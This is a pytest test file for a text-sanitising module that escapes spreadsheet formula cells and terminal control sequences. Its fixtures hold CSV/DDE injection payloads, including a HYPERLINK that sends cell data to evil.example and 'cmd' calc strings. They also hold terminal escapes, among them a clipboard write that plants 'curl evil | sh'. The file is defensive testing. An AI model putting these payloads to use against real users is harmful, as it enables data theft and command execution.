"""safe_text: spreadsheet cells and terminal text (issue 11, part 4)."""
from __future__ import annotations

import csv
import io

import pytest

from torchdrill import safe_text

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1", "\uff1d1+1", "\n=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_are_read_as_text(cell):
    out = safe_text.csv_cell(cell)
    assert out == "'" + cell
    assert safe_text.formula_cells([[out]]) == []


@pytest.mark.parametrize("cell", ["alice", "0.5", "4", "김민수", "a=b", "", None, 3.5])
def test_plain_cells_unchanged(cell):
    assert safe_text.csv_cell(cell) == ("" if cell is None else str(cell))


def test_the_formula_detector_sees_raw_formulas():
    assert safe_text.formula_cells([FORMULAS, ["ok"]]) == FORMULAS


def test_a_written_row_parses_back_with_no_formula():
    buf = io.StringIO()
    csv.writer(buf).writerow(safe_text.csv_row([*FORMULAS, "ok, with comma", 'quote"d']))
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert len(rows) == 1 and safe_text.formula_cells(rows) == []
    assert rows[0][-2:] == ["ok, with comma", 'quote"d']


ESCAPES = {
    "clear screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 CSI": "\x9b31m",
    "carriage return": "ok\rFAKE",
    "bidi override": "\u202eevil",
    "not utf-8 byte": "caf\udce9",
}


@pytest.mark.parametrize("what", sorted(ESCAPES))
def test_terminal_text_never_holds_a_raw_control(what):
    raw = f"before {ESCAPES[what]} after\nline two\tcol"
    out = safe_text.terminal(raw)
    assert not safe_text.has_control(out)
    assert "\x1b" not in out and "\x9b" not in out and "\r" not in out
    assert out.endswith("after\nline two\tcol")          # line feeds and tabs kept
    out.encode("utf-8")                                  # printable on any UTF-8 terminal
    one = safe_text.printable(raw)
    assert "\n" not in one and "\t" not in one and not safe_text.has_control(one)


def test_escapes_are_visible_and_byte_exact():
    assert safe_text.terminal("\x1b[2J") == "\\x1b[2J"
    assert safe_text.printable("caf\udce9") == "caf\\xe9"
    assert safe_text.printable("\u202e") == "\\u202e"
    assert safe_text.terminal("평범한 text") == "평범한 text"
